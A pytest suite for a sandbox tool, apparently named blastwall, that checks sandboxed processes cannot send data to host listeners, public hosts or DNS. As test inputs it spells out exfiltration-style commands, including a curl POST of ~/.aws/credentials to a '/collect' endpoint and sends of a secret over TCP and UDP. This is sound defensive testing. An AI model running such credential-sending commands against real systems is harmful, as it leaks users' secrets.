"""Reaching the network: the sandbox has loopback only, and its own loopback.

The test opens listeners on the *host's* loopback and checks, on the host,
that they received nothing.
"""

from __future__ import annotations

import os
import socket
import threading

import pytest

from tests.attacks.tiers import tier_run, tiers_for
from tests.conftest import SECRET, blastwall, in_sandbox, needs_bwrap

pytestmark = needs_bwrap


class Listener:
    """A host-side TCP or UDP listener that records whatever reaches it."""

    def __init__(self, kind: int, family: int = socket.AF_INET, address=("127.0.0.1", 0)) -> None:
        self.sock = socket.socket(family, kind)
        self.sock.bind(address)
        if kind == socket.SOCK_STREAM:
            self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.received: list[bytes] = []
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    @property
    def port(self) -> int:
        return self.sock.getsockname()[1]

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                if self.sock.type == socket.SOCK_STREAM:
                    conn, _ = self.sock.accept()
                    self.connections += 1
                    conn.settimeout(1)
                    try:
                        self.received.append(conn.recv(65536))
                    except OSError:
                        pass
                    conn.close()
                else:
                    data, _ = self.sock.recvfrom(65536)
                    self.received.append(data)
            except (TimeoutError, socket.timeout):
                continue
            except OSError:
                return

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=2)
        self.sock.close()


@pytest.fixture
def tcp():
    listener = Listener(socket.SOCK_STREAM)
    yield listener
    listener.close()


@pytest.fixture
def udp():
    listener = Listener(socket.SOCK_DGRAM)
    yield listener
    listener.close()


def test_control_listener_receives_from_host(tcp):
    # Proves the listener works, so the refusals below mean something.
    with socket.create_connection(("127.0.0.1", tcp.port), timeout=2) as c:
        c.sendall(b"hello")
    for _ in range(50):
        if tcp.received:
            break
        threading.Event().wait(0.05)
    assert tcp.received == [b"hello"]


def test_curl_post_of_credentials_goes_nowhere(home, workspace, tcp):
    r = blastwall(["run", "--", "curl", "-sS", "--max-time", "5", "-X", "POST", "--data-binary",
                   f"@{home / '.aws' / 'credentials'}", f"http://127.0.0.1:{tcp.port}/collect"],
                  home=home, cwd=workspace)
    assert r.returncode != 0
    threading.Event().wait(0.3)
    assert tcp.connections == 0 and tcp.received == []


@pytest.mark.parametrize("tier", tiers_for("no-network-without-a-grant"))
def test_without_a_grant_nothing_leaves_in_every_tier(tier, home, workspace, tier_env):
    """TCP and UDP to the host's loopback, its address on the default route and a public name: none arrives."""
    tcp, udp = Listener(socket.SOCK_STREAM, address=("0.0.0.0", 0)), Listener(socket.SOCK_DGRAM, address=("0.0.0.0", 0))
    try:
        _nothing_leaves(tier, home, workspace, tier_env, tcp, udp)
    finally:
        tcp.close()
        udp.close()


def _nothing_leaves(tier, home, workspace, tier_env, tcp, udp):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.connect(("192.0.2.1", 9))  # No packet: only picks the host's outward address.
            outward = probe.getsockname()[0]
    except OSError:
        outward = "127.0.0.1"  # No route out on this machine: loopback is the host address to try.
    targets = sorted({"127.0.0.1", outward})
    for host in targets:  # The control: from the host, each target reaches the listeners.
        with socket.create_connection((host, tcp.port), timeout=2) as c:
            c.sendall(b"control")
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
            u.sendto(b"control", (host, udp.port))
    for _ in range(60):
        if len(tcp.received) == len(udp.received) == len(targets):
            break
        threading.Event().wait(0.05)
    assert tcp.received == udp.received == [b"control"] * len(targets)
    tcp.received.clear()
    udp.received.clear()
    tcp.connections = 0
    script = "; ".join(
        [f"curl -sS --max-time 3 -d {SECRET} http://{host}:{tcp.port}/ 2>/dev/null && echo REACHED-{host}"
         for host in targets]
        + [f"python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"{SECRET}\", "
           f"(\"{host}\", {udp.port}))' 2>/dev/null" for host in targets]
        + ["curl -sS --max-time 3 http://example.com/ >/dev/null 2>&1 && echo REACHED-public", "echo CONTROL"])
    r = tier_run(tier, script, home=home, workspace=workspace, env=tier_env)
    assert "CONTROL" in r.stdout, (r.stdout, r.stderr)
    assert "REACHED" not in r.stdout, r.stdout
    threading.Event().wait(0.5)
    assert tcp.connections == 0 and tcp.received == [] and udp.received == []


def test_curl_to_public_name_fails_without_dns(home, workspace):
    r = blastwall(["run", "--", "curl", "-sS", "--max-time", "5", "http://example.com/"], home=home, cwd=workspace)
    assert r.returncode != 0
    assert "resolve" in r.stderr.lower() or "could not" in r.stderr.lower()


def test_python_socket_to_host_loopback(home, workspace, tcp):
    script = (f"import socket\ntry:\n socket.create_connection(('127.0.0.1', {tcp.port}), timeout=3).sendall(b'{SECRET}')\n"
              "except OSError as e:\n print('refused', e.errno)\nelse:\n print('sent')")
    r = in_sandbox(script, home=home, cwd=workspace)
    assert "refused" in r.stdout, r.stdout + r.stderr
    threading.Event().wait(0.3)
    assert tcp.received == []


def test_udp_and_dns_to_host(home, workspace, udp):
    script = (f"import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
              f"for addr in (('127.0.0.1', {udp.port}), ('8.8.8.8', 53), ('10.0.0.1', 53)):\n"
              " try:\n  s.sendto(b'{SECRET}', addr)\n except OSError as e:\n  print('refused', e.errno)\n"
              "try:\n socket.getaddrinfo('example.com', 443)\nexcept OSError as e:\n print('dns refused')")
    r = in_sandbox(script, home=home, cwd=workspace)
    assert "dns refused" in r.stdout, r.stdout + r.stderr
    threading.Event().wait(0.3)
    assert udp.received == []


def test_raw_and_packet_sockets(home, workspace):
    script = ("import socket\nfor fam, kind, proto in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),"
              " (socket.AF_PACKET, socket.SOCK_RAW, 0)):\n try:\n  socket.socket(fam, kind, proto)\n"
              " except OSError as e:\n  print('refused', e.errno)\n else:\n  print('opened')")
    r = in_sandbox(script, home=home, cwd=workspace)
    assert r.stdout.count("refused") == 2, r.stdout + r.stderr


def test_only_loopback_interface(home, workspace):
    # /proc/net/dev: listing interfaces through netlink is refused (see test_netlink_sockets_are_refused).
    script = "print(sorted(line.split(':')[0].strip() for line in open('/proc/net/dev').readlines()[2:]))"
    r = in_sandbox(script, home=home, cwd=workspace)
    assert r.returncode == 0, r.stderr
    assert r.stdout.strip() == "['lo']"


def test_sandbox_can_use_its_own_loopback(home, workspace):
    # Tools that run a local server (tests, dev servers) keep working.
    script = ("import socket, threading\ns = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(1)\n"
              "c = socket.create_connection(s.getsockname()); a, _ = s.accept(); c.sendall(b'ok'); print(a.recv(2).decode())")
    r = in_sandbox(script, home=home, cwd=workspace)
    assert r.stdout.strip() == "ok", r.stderr


def test_unix_socket_to_host_listener(home, workspace, scratch):
    path = str(scratch / "host.sock")
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(path)
    server.listen(1)
    server.settimeout(0.5)
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    abstract_name = f"\0blastwall-test-{os.getpid()}"
    abstract.bind(abstract_name)
    abstract.listen(1)
    abstract.settimeout(0.5)
    try:
        script = (f"import socket\nfor addr in ({path!r}, {abstract_name!r}):\n"
                  " try:\n  s = socket.socket(socket.AF_UNIX); s.connect(addr); s.sendall(b'x')\n"
                  " except OSError as e:\n  print('refused', e.errno)\n else:\n  print('connected')")
        r = in_sandbox(script, home=home, cwd=workspace)
        assert r.stdout.count("refused 1") == 2, r.stdout + r.stderr  # EPERM from seccomp
        for listener in (server, abstract):
            with pytest.raises((TimeoutError, socket.timeout)):
                listener.accept()
    finally:
        server.close()
        abstract.close()


def test_allowed_unix_socket_is_reachable_and_others_are_not(home, workspace, scratch):
    allowed = scratch / "agent.sock"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(allowed))
    server.listen(1)
    server.settimeout(10)
    policy = scratch / "policy.toml"
    policy.write_text(f'[filesystem]\nallow_unix_sockets = ["{allowed}"]\n')
    try:
        script = (f"import socket\ns = socket.socket(socket.AF_UNIX); s.connect({str(allowed)!r}); s.sendall(b'hi'); print('ok')\n"
                  "import os\nprint(sorted(os.listdir('/run')))")
        r = blastwall(["run", "--policy", str(policy), "--", "python3", "-c", script], home=home, cwd=workspace)
        conn, _ = server.accept()
        assert conn.recv(2) == b"hi"
        conn.close()
        assert "ok" in r.stdout, r.stderr
        # The host's /run (system sockets: D-Bus, docker, systemd) is masked.
        assert r.stdout.splitlines()[-1] == "[]"
    finally:
        server.close()
